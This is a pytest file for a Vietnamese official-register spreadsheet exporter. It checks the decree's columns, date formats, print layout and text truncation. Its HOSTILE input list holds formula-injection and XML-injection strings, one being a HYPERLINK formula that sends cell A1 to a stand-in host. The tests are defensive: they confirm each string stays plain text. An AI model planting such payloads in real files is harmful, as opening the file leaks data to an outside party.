"""The spreadsheet, read back: columns of the decree, real days, a page that prints, and no formula."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from register_rows import ABOUT, bare, entry, line, many

from pipeline.matter import Deadline
from pipeline.registers import CASE_LIST, CASES, INCOMING, REGISTER, About, write

if TYPE_CHECKING:
    from pathlib import Path

    from openpyxl.worksheet.worksheet import Worksheet

    from pipeline.matter import RegisterEntry

# Decree 30/2020, Annex IV, form of the register of incoming letters.
ANNEX_IV = (
    "Ngày đến", "Số đến", "Tác giả", "Số, ký hiệu văn bản", "Ngày tháng văn bản",
    "Tên loại và trích yếu nội dung văn bản", "Đơn vị hoặc người nhận", "Ngày chuyển", "Ký nhận", "Ghi chú",
)  # fmt: skip
HOSTILE = [
    '=HYPERLINK("http://xau.example/?"&A1;"bấm vào đây")',
    "=1+1",
    "+84900000000",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "http://xau.example/",
    "internal:Sổ!A1",
    "12345",
    "<r><t>x</t></r>",
    "<r></c></row></sheetData>",
    "<r><t>x</t></r>\n",
    "_x0041_",
    "</t></is></c> & <b>",
]


def sheet_of(folder: Path, *entries: RegisterEntry, about: About = ABOUT) -> Worksheet:
    """Write entries and read the sheet back."""
    out = folder / "so.xlsx"
    write(INCOMING, entries, out, about)
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    return sheet


def plain(row: tuple[Any, ...]) -> list[Any]:
    """Give the values of a row with days as days: a spreadsheet knows moments only."""
    return [value.date() if hasattr(value, "date") else value for value in row]


def test_the_ten_columns_of_the_decree_in_their_order(tmp_path: Path) -> None:
    """Titles, the row of column numbers, then one row a letter, each value in its column."""
    sheet = sheet_of(tmp_path, entry())
    rows = list(sheet.iter_rows(min_row=5, values_only=True))
    assert rows[0] == ANNEX_IV
    assert rows[1] == tuple(f"({at})" for at in range(1, 11))
    assert plain(rows[2]) == [
        date(2026, 3, 2), 7, "Ủy ban nhân dân xã Ví Dụ", "145/UBND-VHXH", date(2026, 2, 27),
        "Công văn V/v đăng tải bài viết phòng, chống lừa đảo", "Công an xã Ví Dụ", date(2026, 3, 3),
        None, "bản sao đến ngày 05/03/2026",
    ]  # fmt: skip
    assert len(rows) == 3


def test_what_is_not_known_stays_empty(tmp_path: Path) -> None:
    """A letter of which nothing was read has its day and number, and nothing made up."""
    row = next(sheet_of(tmp_path, bare()).iter_rows(min_row=7, values_only=True))
    assert plain(row) == [date(2026, 3, 2), 7, *[None] * 8]


def test_days_are_days_shown_the_vietnamese_way(tmp_path: Path) -> None:
    """They sort and filter as days; one before the first day of spreadsheets is text, never ####."""
    sheet = sheet_of(tmp_path, entry(), entry(issued_on=date(1, 1, 1)))
    assert sheet["A7"].is_date
    assert sheet["A7"].number_format == "dd/mm/yyyy"
    assert sheet["E8"].value == "01/01/0001"


def test_a_provisional_deadline_is_a_day_that_says_so(tmp_path: Path) -> None:
    """It still sorts as a day, in a column wide enough for both."""
    out = tmp_path / "vu-viec.xlsx"
    write(CASE_LIST, [line(deadline=Deadline(date(2027, 2, 10), provisional=True))], out, ABOUT)
    cell = openpyxl.load_workbook(out).active["J7"]
    assert cell.value.date() == date(2027, 2, 10)
    assert "(tạm tính)" in cell.number_format


def test_an_overdue_matter_is_marked_in_red(tmp_path: Path) -> None:
    """The officer sees it on the printed list, in words and in bold."""
    out = tmp_path / "vu-viec.xlsx"
    write(CASE_LIST, [line()], out, ABOUT)
    cell = openpyxl.load_workbook(out).active["L7"]
    assert (cell.value, cell.font.bold, cell.font.color.rgb) == ("QUÁ HẠN", True, "FFC00000")


def test_the_page_prints_as_a_register(tmp_path: Path) -> None:
    """A4 landscape, one page wide, the head on each page and frozen on the screen, pages numbered."""
    sheet = sheet_of(tmp_path, entry())
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$5:$6"
    assert sheet.freeze_panes == "A7"
    assert "&P/&N" in "".join(part.text or "" for part in (sheet.oddFooter.left, sheet.oddFooter.right))
    assert [column.width for column in REGISTER] == [
        pytest.approx(sheet.column_dimensions[letter].width, abs=1) for letter in "ABCDEFGHIJ"
    ]
    look = sheet["F7"]
    assert look.alignment.wrap_text
    assert {look.border.left.style, look.border.bottom.style} == {"thin"}


@pytest.mark.parametrize(
    ("about", "span"),
    [
        (ABOUT, "Năm 2026"),
        (replace(ABOUT, first=date(2026, 1, 5)), "Năm 2026 (từ ngày 05/01/2026)"),
        (
            replace(ABOUT, year=None, first=date(2025, 12, 1), last=date(2026, 2, 1)),
            "Từ ngày 01/12/2025 đến ngày 01/02/2026",
        ),
        (replace(ABOUT, year=None), None),
    ],
)
def test_the_title_says_whose_and_of_when(tmp_path: Path, about: About, span: str | None) -> None:
    """Office, name of the book, year and days stand above the table."""
    sheet = sheet_of(tmp_path, entry(), about=about)
    assert [sheet[f"A{row}"].value for row in (1, 2, 3)] == [
        "Công an tỉnh Ví Dụ",
        "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN",
        span,
    ]


def test_a_row_is_as_tall_as_its_text(tmp_path: Path) -> None:
    """A long subject is not printed over the next row; no row is taller than a spreadsheet can show."""
    sheet = sheet_of(
        tmp_path,
        entry(issuer="UBND xã", subject="ngắn"),
        entry(subject="đăng tải bài viết " * 20),
        entry(subject="SÁU CHỮ HOA RẤT LÀ DÀI " * 500),
    )
    one, some, most = (sheet.row_dimensions[row].height for row in (7, 8, 9))
    # LibreOffice prints 50 such letters in a line of that column: 360 are eight lines, of 11.5 points each.
    assert one <= 3 * 12 < 8 * 11.5 <= some < most <= 409


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_becomes_a_formula_a_link_or_markup(tmp_path: Path, text: str) -> None:
    """Whatever a letter says is shown as text, and stays what it was but for white space at its ends."""
    sheet = sheet_of(tmp_path, entry(issuer=text, note=text, number=text), entry())
    for at in ("C7", "D7", "J7"):
        cell = sheet[at]
        assert cell.data_type in {"s", "inlineStr"}
        assert unescape(cell.value).strip() == text.strip()  # _x005F_ is how the format writes "_x…"
        assert cell.hyperlink is None
    assert sheet["C8"].value == "Ủy ban nhân dân xã Ví Dụ"
    parts = zipfile.ZipFile(tmp_path / "so.xlsx")
    xml = b"".join(parts.read(name) for name in parts.namelist() if "sheet1" in name)
    assert not re.search(rb"<f[ >]|<hyperlink", xml)


def test_control_characters_and_half_letters_do_not_break_the_file(tmp_path: Path) -> None:
    """What XML cannot hold becomes a space or the sign for an unreadable letter; line breaks stay."""
    every = "".join(map(chr, range(0x20))) + "\x7f\x85\u2028\ud83d\ufffe\uffff"
    sheet = sheet_of(tmp_path, entry(note=f"trước{every}sau", issuer="\x00 a\r\nb \x0b"))
    assert sheet["C7"].value == "a\nb"
    note = sheet["J7"].value
    assert note.startswith("trước")
    assert note.endswith("sau")
    assert set(note) <= set("trướcsau \n\ufffd")


@pytest.mark.parametrize("letter", ["ă", "😀"])
def test_text_longer_than_a_cell_is_cut_and_told(tmp_path: Path, letter: str) -> None:
    """32,767 UTF-16 units are the most; the cut shows as an ellipsis and is reported with its row."""
    out = tmp_path / "so.xlsx"
    written = write(INCOMING, [entry(), entry(note=letter * 40_000)], out, ABOUT)
    assert (written.rows, written.cut, written.cuts) == (2, 1, ((2, "Ghi chú"),))
    value = openpyxl.load_workbook(out).active["J8"].value
    assert value.endswith(letter + "…")
    assert 32_760 < len(value.encode("utf-16-le")) // 2 <= 32_767


def test_equal_rows_give_equal_bytes(tmp_path: Path) -> None:
    """No clock stands in the file: the day of export is the one that was handed in."""
    for name in ("a.xlsx", "b.xlsx"):
        write(INCOMING, many(20), tmp_path / name, ABOUT)
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_an_empty_register_is_a_register(tmp_path: Path) -> None:
    """A year without letters still has its title and head."""
    sheet = sheet_of(tmp_path)
    assert sheet.max_row == 6


def test_titles_fit_their_columns() -> None:
    """No word of a title is wider than its column."""
    for column in (*REGISTER, *CASES):
        assert max(map(len, column.title.split())) <= column.width
